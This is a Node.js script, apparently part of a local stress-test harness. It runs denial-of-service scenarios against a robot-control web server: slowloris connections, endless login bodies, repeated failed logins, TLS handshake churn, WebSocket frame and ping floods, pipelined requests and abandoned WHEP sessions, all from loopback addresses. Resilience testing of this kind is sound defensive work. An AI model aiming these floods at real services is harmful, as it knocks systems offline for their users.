// One attack, until standard input ends. Started by attack.mjs; says "begun" once it is under way, and what it has done at the end.
import { connect } from 'node:net'
import { createInterface } from 'node:readline'
import { connect as connectTls } from 'node:tls'

const lines = createInterface({ input: process.stdin })
const { name, origin, cookie, strangers } = JSON.parse(await new Promise((resolve) => lines.once('line', resolve)))
const { hostname, port, host, protocol } = new URL(origin)
const counts = { opened: 0, closed: 0, answers: 0, bytes: 0 }
let over = false
lines.once('close', () => {
  over = true
  console.log(`done ${Object.entries(counts).map(([what, count]) => `${what} ${count}`).join(', ')}`)
  process.exit(0)
})

/** Each stranger has an address, as far as loopback has some. */
const addressOf = (n) => `127.${64 + ((n >> 16) & 0x3f)}.${(n >> 8) & 0xff}.${(n & 0xff) || 1}`

/** A connection that `begin` is called with once it is open, and that comes again `againMs` after it is gone. */
function keepOpen(n, begin, { againMs = 1000, from = addressOf(n), tls = protocol === 'https:' } = {}) {
  if (over) return
  const to = { host: hostname, port: Number(port), localAddress: from }
  const socket = tls ? connectTls({ ...to, rejectUnauthorized: false }) : connect(to)
  socket.once(tls ? 'secureConnect' : 'connect', () => {
    counts.opened += 1
    begin(socket)
  })
  socket.on('data', (bytes) => {
    counts.answers += 1
    counts.bytes += bytes.length
  })
  socket.on('error', () => undefined)
  socket.on('close', () => {
    counts.closed += 1
    setTimeout(() => keepOpen(n, begin, { againMs, from, tls }), againMs * (0.5 + Math.random()))
  })
}

const head = (method, path, headers = {}) =>
  `${method} ${path} HTTP/1.1\r\n${Object.entries({ host, ...headers }).map(([key, value]) => `${key}: ${value}\r\n`).join('')}\r\n`
const signedIn = { cookie, origin }
const upgrade = { ...signedIn, connection: 'upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==' }

/** Writes `bytes` as fast as they are taken. */
function flood(socket, bytes) {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes)) counts.bytes += bytes.length
  }
  socket.on('drain', more)
  more()
}

const frame = (first, payload = Buffer.alloc(0)) => Buffer.concat([Buffer.from([first, 0x80 | payload.length, 0, 0, 0, 0]), payload])
const many = (bytes) => Buffer.concat(Array.from({ length: 2000 }, () => bytes))

/** One client with all the sockets it gets, and what it sends on them. */
function sockets(first, bytes) {
  for (let n = 0; n < 80; n += 1) {
    const path = n % 5 === 0 ? '/api/v1/robot/drive' : '/api/v1/events'
    keepOpen(n, (socket) => {
      socket.write(head('GET', path, upgrade))
      socket.once('data', (answer) => {
        if (!answer.includes(' 101 ')) return socket.destroy()
        if (first) socket.write(first)
        flood(socket, bytes)
      })
    }, { againMs: 200, from: '127.32.0.1' })
  }
}

const all = {
  /** Strangers who hold connections and say nothing, or half a head, and come back when they are put out. */
  connections: () => {
    const begun = ['', 'GET / HT', 'GET / HTTP/1.1\r\nhost: a\r\nx: ']
    for (let n = 0; n < strangers; n += 1) keepOpen(n, (socket) => socket.write(begun[n % begun.length] || '\r'))
  },
  /** Strangers who sign in by a body that never ends. */
  bodies: () => {
    const half = head('POST', '/api/v1/login', { 'content-type': 'application/json', 'content-length': 9999 })
    for (let n = 0; n < strangers; n += 1) keepOpen(n, (socket) => socket.write(`${half}{`))
    setInterval(() => undefined, 1000)
  },
  /** Strangers who sign in wrongly, again and again. */
  sign_ins: () => {
    const body = JSON.stringify({ token: 'x'.repeat(43) })
    const wrong = head('POST', '/api/v1/login', { 'content-type': 'application/json', 'content-length': body.length }) + body
    for (let n = 0; n < Math.min(strangers, 1000); n += 1) {
      keepOpen(n, (socket) => {
        socket.write(wrong)
        socket.on('data', () => socket.write(wrong))
      })
    }
  },
  /** Strangers who ask for a TLS handshake, and again. */
  handshakes: () => {
    for (let n = 0; n < Math.min(strangers, 1000); n += 1) keepOpen(n, (socket) => socket.destroy(), { againMs: 100 })
  },
  frames: () => sockets(null, many(frame(0x81, Buffer.from('{"type":"nothing"}')))),
  fragments: () => sockets(frame(0x01), many(frame(0x00))),
  pings: () => sockets(null, many(frame(0x89))),
  /** All the connections that one client gets, each with requests in a row. */
  requests: () => {
    const ask = head('GET', '/api/v1/status', signedIn).repeat(16)
    for (let n = 0; n < 300; n += 1) keepOpen(n, (socket) => flood(socket, ask), { againMs: 100, from: '127.32.0.1' })
  },
  /** WHEP sessions begun and left. */
  whep: () => {
    const offer = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=video 9 UDP/TLS/RTP/SAVPF 96', 'c=IN IP4 0.0.0.0', 'a=mid:0', 'a=recvonly', 'a=rtpmap:96 H264/90000', 'a=fmtp:96 level-asymmetry-allowed=1;packetization-mode=1;profile-level-id=42e01f', 'a=ice-ufrag:abcd', 'a=ice-pwd:abcdefghijklmnopqrstuvwx', `a=fingerprint:sha-256 ${Array(32).fill('AB').join(':')}`, 'a=setup:actpass', 'a=rtcp-mux', ''].join('\r\n')
    const ask = head('POST', '/api/mediamtx/webrtc/whep', { ...signedIn, 'content-type': 'application/sdp', 'content-length': offer.length }) + offer
    for (let n = 0; n < 60; n += 1) {
      keepOpen(n, (socket) => {
        socket.write(ask)
        socket.on('data', () => socket.write(ask))
      }, { againMs: 100, from: '127.32.0.1' })
    }
  },
}

all[name]()
const least = { connections: 400, bodies: 400 }[name] ?? 1
const began = setInterval(() => {
  if (counts.opened < Math.min(least, strangers)) return
  clearInterval(began)
  console.log('begun')
}, 50)
